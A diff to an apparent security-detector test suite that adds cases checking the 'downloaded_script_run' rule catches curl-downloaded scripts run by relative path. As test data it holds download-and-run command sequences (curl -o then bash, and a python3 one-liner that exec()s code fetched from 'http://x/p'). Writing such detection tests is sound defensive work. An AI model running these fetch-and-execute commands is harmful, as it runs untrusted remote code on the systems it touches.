@@ -779,6 +779,16 @@ def test_history_scripts_and_implants(fire: Any, ev: Any) -> None:
                ev.open(20, "/tmp/i.sh", kind="write", comm="curl"),
                ev.exec(21, "/bin/bash", "bash", "/tmp/i.sh"))
     assert got == ["downloaded_script_run"]
+    # the same with the script named relatively, as it usually is (curl -o i.sh URL; bash i.sh:
+    # the open's path is resolved against the cwd, the argument is not); main missed it
+    for arg in ("i.sh", "./i.sh", "sub/../i.sh"):
+        got = fire(ev.exec(23, "/usr/bin/curl", "curl", "-o", "i.sh", "http://x"),
+                   ev.open(23, "/workspace/i.sh", kind="write", comm="curl"),
+                   ev.exec(24, "/bin/bash", "bash", arg))
+        assert got == ["downloaded_script_run"], arg
+    assert fire(ev.exec(25, "/usr/bin/curl", "curl", "-o", "i.sh", "http://x"),
+                ev.open(25, "/workspace/i.sh", kind="write", comm="curl"),
+                ev.exec(26, "/bin/bash", "bash", "other.sh")) == []
     assert fire(ev.exec(22, "/usr/bin/python3", "python3", "-c",
                         "import urllib.request as u; exec(u.urlopen('http://x/p').read())")) == [
         "interpreter_runs_downloaded_code"]
